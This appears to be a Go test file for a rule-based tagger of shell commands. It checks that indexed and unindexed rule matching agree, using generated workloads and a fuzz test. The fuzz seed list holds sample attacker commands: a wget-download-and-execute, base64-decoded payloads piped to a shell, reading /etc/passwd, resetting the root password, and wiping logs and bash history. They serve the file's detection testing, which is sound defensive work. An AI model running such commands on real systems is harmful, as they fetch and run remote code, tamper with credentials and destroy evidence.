package tagger

import (
	"reflect"
	"runtime"
	"slices"
	"sync"
	"testing"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/bench/workload"
	"github.com/ttpcron/ttpcron/internal/testlogs"
	"github.com/ttpcron/ttpcron/tagger/shell"
)

// texts are the inputs for the index: a made history with the examples of every rule, and
// the commands in each history of logs.
func texts(t testing.TB) map[string][]string {
	var made []string
	for e := range workload.Events(workload.Options{Commands: 300, Unique: true, Seed: 7}) {
		text, _ := e.Payload.Text("command_text")
		made = append(made, text)
	}
	for _, d := range loadEmbedded().defs {
		for _, ex := range d.examples {
			if ex.event.Kind == ttpcron.Command {
				made = append(made, ex.text)
			}
		}
	}
	slices.Sort(made)
	all := map[string][]string{"made": slices.Compact(made)}
	for _, h := range testlogs.All(t) {
		all[h.Name] = h.Commands(t)
	}
	return all
}

// plainRule tries one rule on a parsed text, without index, cache or memory of other
// rules.
func plainRule(r *runnable, text string, script *shell.Script) (matched quote, ok, bounded bool) {
	var ev evaluation
	ev.begin(text, commandEvent(text))
	ev.script = script
	matched, ok = r.try(&r.check, &ev)
	return matched, ok, ev.budget.Met
}

// every tries every rule on a text.
func every(text string) (ids []string, bounded bool) {
	script := shell.NewParser(shell.Limits{}).Parse(text)
	for _, r := range unindexed() {
		_, ok, met := plainRule(r, text, script)
		bounded = bounded || met
		if ok {
			ids = append(ids, r.ID)
		}
	}
	return ids, bounded
}

// unindexed are the rules of commands, without an index.
var unindexed = sync.OnceValue(func() (out []*runnable) {
	for _, d := range loadEmbedded().defs {
		if slices.Contains(d.Kinds, ttpcron.Command) {
			out = append(out, newRunnable(d, ttpcron.Command, d.Claims))
		}
	}
	return out
})

// claiming returns the rules for single events, with a claim added to base rules that make
// no tag, so that tags show what they match.
func claiming(rs *RuleSet) *RuleSet {
	var defs []*definition
	for _, d := range rs.defs {
		switch {
		case d.correlation != nil:
			continue
		case len(d.Claims) == 0:
			d = d.certain()
		}
		defs = append(defs, d)
	}
	return newRuleSet(defs, nil, &sync.Map{}, &links{}, nil)
}

// checkSame: a text gets the same tags with and without the index, with and without the
// cache, from a fresh tagger and from a used one.
func checkSame(t *testing.T, rs *RuleSet, used *Composite, text string) {
	t.Helper()
	first, v1 := used.Tag(commandEvent(text), nil)
	again, v2 := used.Tag(commandEvent(text), nil)
	fresh, v3 := rs.Tagger(nil).Tag(commandEvent(text), nil)
	if !reflect.DeepEqual(first, again) || !reflect.DeepEqual(first, fresh) || v1 != v2 || v1 != v3 {
		t.Errorf("%q: %v %v, again %v %v, fresh %v %v", text, rulesOf(first), v1, rulesOf(again), v2, rulesOf(fresh), v3)
		return
	}
	if v1.Bounded || v1.Skipped {
		return
	}
	if want, met := every(text); !met && !reflect.DeepEqual(rulesOf(first), want) {
		t.Errorf("%q: with the index %v, without %v", text, rulesOf(first), want)
	}
}

// share calls do with the numbers below n, on all processors. Each worker has
// what setUp gives it.
func share[T any](n int, setUp func() T, do func(own T, i int)) {
	work := make(chan int)
	var workers sync.WaitGroup
	for range runtime.GOMAXPROCS(0) {
		workers.Go(func() {
			own := setUp()
			for i := range work {
				do(own, i)
			}
		})
	}
	for i := range n {
		work <- i
	}
	close(work)
	workers.Wait()
}

// TestSameWithoutIndex: the whole pack gives each text the same tags with and without the
// index, whatever the tagger did before.
func TestSameWithoutIndex(t *testing.T) {
	rs := claiming(loadEmbedded())
	step := 9
	if testing.Short() {
		step = 90
	}
	for name, all := range texts(t) {
		t.Run(name, func(t *testing.T) {
			share((len(all)+step-1)/step, func() *Composite { return rs.Tagger(nil) }, func(used *Composite, i int) {
				checkSame(t, rs, used, all[i*step])
			})
		})
	}
}

// TestEachRuleAlone: the index of a single rule, which searches fewer fields than that of
// the pack, misses nothing either. Each rule is tried on its own examples and on a sample
// of all texts.
func TestEachRuleAlone(t *testing.T) {
	step := 61
	if testing.Short() {
		step = 610
	}
	for name, all := range texts(t) {
		t.Run(name, func(t *testing.T) { eachRuleAlone(t, all, step) })
	}
}

func eachRuleAlone(t *testing.T, all []string, step int) {
	rs := loadEmbedded()
	scripts := make([]*shell.Script, (len(all)+step-1)/step)
	for i := range scripts {
		scripts[i] = shell.NewParser(shell.Limits{}).Parse(all[i*step])
	}
	nothing := func() struct{} { return struct{}{} }
	share(len(rs.defs), nothing, func(_ struct{}, i int) {
		d := rs.defs[i]
		if d.correlation != nil {
			return
		}
		k := byItself(d.certain()).compile().kinds[ttpcron.Command]
		if k == nil {
			return
		}
		s := k.lookup(nil, nil)
		same := func(text string, script *shell.Script) {
			wanted, want, met := plainRule(newRunnable(d, ttpcron.Command, d.Claims), text, script)
			if met {
				return
			}
			got, ok := alone(s, text, script)
			if len(d.Claims) == 0 { // it makes no tag that would quote
				got = wanted
			}
			if got != wanted || ok != want {
				t.Errorf("%s: %q: with its index %+v %v, without %+v %v", d.ID, text, got, ok, wanted, want)
			}
		}
		for _, ex := range d.examples {
			if ex.event.Kind == ttpcron.Command {
				same(ex.text, shell.NewParser(shell.Limits{}).Parse(ex.text))
			}
		}
		for i, script := range scripts {
			same(all[i*step], script)
		}
	})
}

// alone tries the only rule of an index on a parsed text.
func alone(s *lookup, text string, script *shell.Script) (matched quote, ok bool) {
	var ev evaluation
	ev.begin(text, commandEvent(text))
	s.begin()
	s.text(text)
	ev.programs = s.script(text, script, nil)
	ev.script, ev.seen, ev.unscanned = script, s.seen, s.bounded()
	s.candidates(func(r *runnable, _ *prepared) { matched, ok = r.try(&r.check, &ev) })
	return matched, ok
}

func FuzzSameWithoutIndex(f *testing.F) {
	for _, s := range []string{
		"wget http://203.0.113.9/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a", `w'g'et http://x/a|s\h`, "echo d2hvYW1p|base64 -d|sh",
		`/bin/busybox WGET`, "cat /etc/passwd\x00", "\u212aill -9 1", `bash -c "{echo,Y3VybA==}|{base64,-d}|bash"`, "crontab -l;uname -a&&nproc",
		"echo \"root:x\"|chpasswd|bash", "$(which wget) x", "rm -rf /var/log/* ~/.bash_history", "nohup ./x >/dev/null 2>&1 &",
	} {
		f.Add(s)
	}
	rs := claiming(loadEmbedded())
	used := rs.Tagger(nil)
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) < 2000 {
			checkSame(t, rs, used, text)
		}
	})
}
